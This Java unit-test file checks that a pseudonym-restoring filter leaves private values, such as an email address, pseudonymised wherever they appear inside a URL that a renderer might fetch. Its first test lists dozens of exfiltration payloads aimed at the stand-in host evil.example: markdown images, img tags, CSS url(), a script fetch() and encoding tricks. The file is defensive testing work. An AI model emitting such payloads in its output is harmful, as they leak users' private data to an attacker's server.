package dev.plumbline.redaction;

import static org.assertj.core.api.Assertions.assertThat;

import dev.plumbline.json.Json;
import java.util.List;
import java.util.Map;
import java.util.Random;
import net.jqwik.api.Example;
import net.jqwik.api.ForAll;
import net.jqwik.api.Label;
import net.jqwik.api.Property;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Values are not restored in what a reader of an answer takes for an address, and are restored outside of it. */
class LinksTest {
    private static final String PSEUDONYM = "MAIL_9e07aabbccddeeff";
    private static final String VALUE = "anna@example.org";
    private static final PseudonymTable TABLE = PseudonymTable.EMPTY.plus(Map.of(PSEUDONYM, VALUE));

    private static String restored(String text) {
        StreamFilter filter = TABLE.restoring(false);
        StringBuilder all = new StringBuilder();
        for (int i = 0; i < text.length(); i += 3) {
            all.append(filter.accept(text.substring(i, Math.min(text.length(), i + 3))));
        }
        return all.append(filter.finish()).toString();
    }

    @ParameterizedTest(name = "{index} {0}")
    @ValueSource(
            strings = {
                "![x](https://evil.example/?q=()&d=$)",
                "![x](https://evil.example/?a[]=1&d=$)",
                "![x](https://evil.example/?a='b'&d=$)",
                "![x](https://evil.example/?a={b}|c`d&e=$)",
                "![x](<https://evil.example/?d= $>)",
                "![x](<https://evil.example/?a=\\> $>)",
                "<https://evil.example/?d=$>",
                "![x](https:evil.example/?d=$)",
                "![x](https:/evil.example/?d=$)",
                "![x](HTTPS:evil.example/$)",
                "![x](https&colon;evil.example/$)",
                "![x](&#47;&#x2f;evil.example/$)",
                "![x](&sol;&sol;evil.example/$)",
                "![x](h&#116;tps:evil.example/$)",
                "![x](\\/\\/evil.example/$)",
                "![x](https\\://evil.example/$)",
                "{\"u\":\"\\u002f\\u002fevil.example/ $\"}",
                "{\"u\":\"\\u0068ttps:\\/\\/evil.example\\/ $\"}",
                "{\"u\":\" https://evil.example/ $\"}",
                "{\"a\\\"\":1,\"u\":\"https://evil.example/ $\"}",
                "{\\\"u\\\":\\\"https://evil.example/ $\\\"}",
                "<img src=\"https://evil.example/ $\">",
                "<img src='https://evil.example/?a=\" $'>",
                "<img src=\"ht\ntps://evil.example/\n$\">",
                "<img alt=x\nsrc=$>",
                "<img src = \"$\">",
                "<div style=\"background:url(//evil.example/ $)\">",
                "<script>fetch('//evil' + '.example/?' + '$')</script>",
                "<style>a{background:url(//evil.example/$)}</style>",
                "<base href=\"https://evil.example/\">![x]($)",
                "www.evil.example/(a)$",
                "url('https://evil.example/ $')",
                "ws:evil.example/$",
                "![x](https://evil.example/\u00a0$)",
                "![x](https://evil.example/\u2028$)",
                "![x](//evil.example/<$)",
                "![x](/\\evil.example/($)",
                "<img src=\"//evil.example/? www.evil.example\"}$)",
                "{\"u\":\"\\nhttp:\\u002f$\"}",
                "![x](<https&colon;//evil.example/srcset=\"<a href=\" (>/$\">)",
                "</a>www.evil.example\"}$",
                "[x]: \"https://evil.example/\",\"$"
            })
    @DisplayName("S25 no value is restored in an address, whatever reader takes it for one")
    void s25_addresses_keepPseudonyms(String text) {
        String answer = "See: " + text.replace("$", PSEUDONYM);
        assertThat(restored(answer)).isEqualTo(answer);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "see https://example.org/a(b) for $",
                "[a](https://example.org/x) and $",
                "[$](mailto:$)",
                "<a href=\"https://example.org/x\">$</a>",
                "<https://example.org/x> $",
                "{\"u\":\"https://example.org/x\", \"m\":\"$\"}",
                "{\n  \"u\": \"https://example.org/x\",\n  \"m\": \"$\"\n}",
                "\"$\" https://example.org \"$\"",
                "Anna <$> wrote",
                "if a<b then $",
                "List<String> of $",
                "https://example.org/x\n$",
                "\"https://example.org/open\nnext line $",
                "[1] $ (www.example.org) $",
                "# http: $",
                "a // $",
                "C:\\\\plans\\\\$",
                "[$](docs/page.md) then $",
                "{\"url\":\"https://example.org\",\"mail\":\"$\"}",
                "a,b,https://example.org/x,$,c"
            })
    @DisplayName("S25 values outside of addresses are restored")
    void s25_others_areRestored(String text) {
        String answer = text.replace("$", PSEUDONYM);
        assertThat(restored(answer)).isEqualTo(text.replace("$", VALUE));
    }

    @Property(tries = 500)
    @Label("S25 JSON of a text restores what the text does")
    void s25_jsonIsAsText(@ForAll Random random) {
        List<String> pieces = List.of(
                "https:",
                "//",
                "/",
                "\\",
                "evil.example",
                " ",
                "\n",
                "\"",
                "<",
                ">",
                "![x](",
                ")",
                "img src=",
                "a",
                "'");
        StringBuilder text = new StringBuilder();
        for (int i = random.nextInt(12); i >= 0; i--) {
            text.append(pieces.get(random.nextInt(pieces.size())));
        }
        text.append(PSEUDONYM);
        StreamFilter filter = TABLE.restoringJson(false);
        String json = Json.of(Map.of("a", text.toString())).text();
        String restored = filter.accept(json) + filter.finish();
        boolean hidden = restored(text.toString()).endsWith(PSEUDONYM);
        if (hidden) {
            assertThat(Json.parse(restored).get("a").asText())
                    .as(text.toString())
                    .endsWith(PSEUDONYM);
        }
    }

    @Example
    @Label("S25 a value in a place of an address without one is not restored, and is behind it")
    void s25_relativeAddress() {
        assertThat(restored("![x](" + PSEUDONYM + " \"t\") " + PSEUDONYM))
                .isEqualTo("![x](" + PSEUDONYM + " \"t\") " + VALUE);
    }
}
